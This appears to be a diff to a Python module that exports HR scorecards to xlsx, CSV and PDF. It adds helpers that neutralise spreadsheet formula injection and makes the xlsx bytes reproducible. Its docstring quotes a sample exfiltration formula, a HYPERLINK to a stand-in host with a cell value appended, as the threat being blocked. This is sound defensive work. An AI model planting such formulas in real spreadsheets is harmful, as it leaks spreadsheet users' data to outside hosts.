@@ -8,6 +8,21 @@ for HR systems, and PDF renderings of the reader's reports.
 - `summary.xlsx` (per period): one row per department, for import into HR systems.
 - PDF: headless Chromium (Debian's `chromium` package) prints the reader's HTML; the
   HTML embeds its CJK font, so the PDF has real glyphs.
+
+Spreadsheet formula injection (SPEC §9 "Spreadsheets"): a department name, a grade
+label, a signer's name or a data value such as `=HYPERLINK("http://x/?"&A2)` must be
+shown, never run. Every writer goes through the two helpers here:
+
+- `xlsx_cell`: text becomes a string cell. openpyxl otherwise stores a str that
+  starts with "=" as a formula and one that reads like an error code ("#N/A") as an
+  error cell (`Cell._bind_value`); the value itself is kept unchanged, no quote added
+  (a carriage return in it reads back as a line feed: XML's end-of-line rule).
+- `csv_cell`: CSV has no cell types, so text that starts with `=`, `+`, `-`, `@`, tab
+  or carriage return gets a leading `'` (OWASP's rule). Numbers (int, float, Decimal)
+  are written as numbers, so `-1.41` keeps its sign and stays a number.
+
+The xlsx bytes are reproducible: the document's created/modified properties and
+every zip member's time come from `clock.now()` (`SOURCE_DATE_EPOCH` when set).
 """
 
 from __future__ import annotations
@@ -16,15 +31,21 @@ import io
 import shutil
 import subprocess
 import tempfile
-from collections.abc import Mapping, Sequence
+from collections.abc import Iterable, Mapping, Sequence
 from datetime import datetime
+from decimal import Decimal
 from pathlib import Path
 from typing import Any
+from zipfile import ZIP_DEFLATED, ZipFile, ZipInfo
 
 from openpyxl import Workbook
+from openpyxl.cell.cell import Cell
 from openpyxl.styles import Alignment, Border, Font, PatternFill, Side
 from openpyxl.utils import get_column_letter
+from openpyxl.worksheet.worksheet import Worksheet
+from openpyxl.writer.excel import ExcelWriter
 
+from . import clock
 from .errors import KpiError
 from .explain import LABELS, grade_label
 from .template import Template
@@ -36,12 +57,57 @@ BOX = Border(left=THIN, right=THIN, top=THIN, bottom=THIN)
 WRAP = Alignment(wrap_text=True, vertical="top")
 
 
-def _bytes(book: Workbook, when: datetime) -> bytes:
+FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
+ZIP_EPOCH = datetime(1980, 1, 1)  # the earliest time a zip member can carry
+
+
+# -- safe cells -----------------------------------------------------------------------------
+def xlsx_cell(sheet: Worksheet, value: Any) -> Any:
+    """`value` for `sheet.append`: text as a string cell (never a formula or an error cell), unchanged; anything else as it is."""
+    if not isinstance(value, str):
+        return value
+    cell = Cell(sheet, value=value)
+    cell.data_type = "s"
+    return cell
+
+
+def csv_cell(value: Any) -> Any:
+    """`value` for `csv.writer`: numbers as they are, None as empty, text with a leading `'` when it starts like a formula."""
+    if value is None:
+        return ""
+    if isinstance(value, (int, float, Decimal)):
+        return value
+    text = str(value)
+    return f"'{text}" if text.startswith(FORMULA_PREFIXES) else text
+
+
+def _append(sheet: Worksheet, values: Iterable[Any]) -> None:
+    sheet.append([xlsx_cell(sheet, value) for value in values])
+
+
+# -- reproducible bytes ---------------------------------------------------------------------
+def _bytes(book: Workbook, when: datetime | None = None) -> bytes:
+    """The workbook as .xlsx bytes, dated `when` (naive UTC; default `clock.now()`) in its properties and its zip.
+
+    `Workbook.save` would stamp `modified` with the wall clock, and `ZipFile.writestr`
+    dates each member with it, so the workbook is written by openpyxl's `ExcelWriter`
+    and its members are re-dated.
+    """
+    when = when or clock.utc_naive()
     book.properties.created = when
     book.properties.modified = when
-    buffer = io.BytesIO()
-    book.save(buffer)
-    return buffer.getvalue()
+    written = io.BytesIO()
+    with ZipFile(written, "w", ZIP_DEFLATED, allowZip64=True) as archive:
+        ExcelWriter(book, archive).write_data()
+    date_time = max(when, ZIP_EPOCH).timetuple()[:6]
+    dated = io.BytesIO()
+    with ZipFile(io.BytesIO(written.getvalue())) as source, ZipFile(dated, "w", ZIP_DEFLATED, allowZip64=True) as target:
+        for member in source.infolist():
+            info = ZipInfo(member.filename, date_time=date_time)
+            info.compress_type = ZIP_DEFLATED
+            info.external_attr = member.external_attr
+            target.writestr(info, source.read(member))
+    return dated.getvalue()
 
 
 def scorecard_xlsx(
@@ -58,10 +124,10 @@ def scorecard_xlsx(
     book = Workbook()
     sheet = book.active
     sheet.title = "考核表"
-    sheet.append([title])
+    _append(sheet, [title])
     sheet["A1"].font = Font(bold=True, size=14)
-    sheet.append([LABELS[k][0] for k in SHEET_KEYS] + ["得分"])
-    sheet.append([LABELS[k][1] for k in SHEET_KEYS] + ["Score"])
+    _append(sheet, [LABELS[k][0] for k in SHEET_KEYS] + ["得分"])
+    _append(sheet, [LABELS[k][1] for k in SHEET_KEYS] + ["Score"])
     for row in (2, 3):
         for cell in sheet[row]:
             cell.font = Font(bold=True)
@@ -89,30 +155,30 @@ def scorecard_xlsx(
             ind.formula(lang),
             item["score"],
         ]
-        sheet.append(values)
+        _append(sheet, values)
         for cell in sheet[sheet.max_row]:
             cell.border = BOX
             cell.alignment = WRAP
         sheet.cell(row=sheet.max_row, column=len(values)).number_format = "0.00"
     grade = result["grade"] or ""
-    sheet.append([])
-    sheet.append(["加权总分 Weighted total", result["total"]])
+    _append(sheet, [])
+    _append(sheet, ["加权总分 Weighted total", result["total"]])
     sheet.cell(row=sheet.max_row, column=2).number_format = "0.00"
-    sheet.append(["等级 Grade", f"{grade} {grade_label(labels.get(grade, ''), lang)}".strip()])
+    _append(sheet, ["等级 Grade", f"{grade} {grade_label(labels.get(grade, ''), lang)}".strip()])
     for row in (sheet.max_row - 1, sheet.max_row):
         sheet.cell(row=row, column=1).font = Font(bold=True)
-    sheet.append([])
+    _append(sheet, [])
     by_role = {s["role"]: s for s in signoffs}
     line = []
     for role, key in ROLES.items():
         signed = by_role.get(role)
         line += [f"{LABELS[key][0]}：", f"{signed['name']}  {signed['time']}" if signed else "________________"]
-    sheet.append(line)
+    _append(sheet, line)
     widths = [6, 36, 16, 7, 36, 12, 16, 14, 12, 36, 18, 10, 40, 8]
     for column, width in enumerate(widths, start=1):
         sheet.column_dimensions[get_column_letter(column)].width = width
     sheet.freeze_panes = "C4"
-    return _bytes(book, when or datetime.now().replace(microsecond=0))
+    return _bytes(book, when)
 
 
 def summary_xlsx(period: str, rows: Sequence[Mapping[str, Any]], when: datetime | None = None) -> bytes:
@@ -121,15 +187,15 @@ def summary_xlsx(period: str, rows: Sequence[Mapping[str, Any]], when: datetime 
     book = Workbook()
     sheet = book.active
     sheet.title = period
-    sheet.append(["名次 rank", "部门编号 department", "部门 name", "期间 period", "状态 status", "加权总分 total", "等级 grade", "等级名称 grade_label", *ids])
+    _append(sheet, ["名次 rank", "部门编号 department", "部门 name", "期间 period", "状态 status", "加权总分 total", "等级 grade", "等级名称 grade_label", *ids])
     for cell in sheet[1]:
         cell.font = Font(bold=True)
     for r in rows:
         scores = {i["id"]: i["score"] for i in r["indicators"]}
-        sheet.append([r["rank"], r["department"], r["name"], period, r["status"], r["total"], r["grade"], r["labels"].get(r["grade"] or "", ""), *(scores.get(i) for i in ids)])
+        _append(sheet, [r["rank"], r["department"], r["name"], period, r["status"], r["total"], r["grade"], r["labels"].get(r["grade"] or "", ""), *(scores.get(i) for i in ids)])
     for column in range(1, sheet.max_column + 1):
         sheet.column_dimensions[get_column_letter(column)].width = 14
-    return _bytes(book, when or datetime.now().replace(microsecond=0))
+    return _bytes(book, when)
 
 
 CHROMIUM_HINT = "Chromium is not installed: run `make pdf-deps` (or `apt-get install chromium`) to make PDFs"
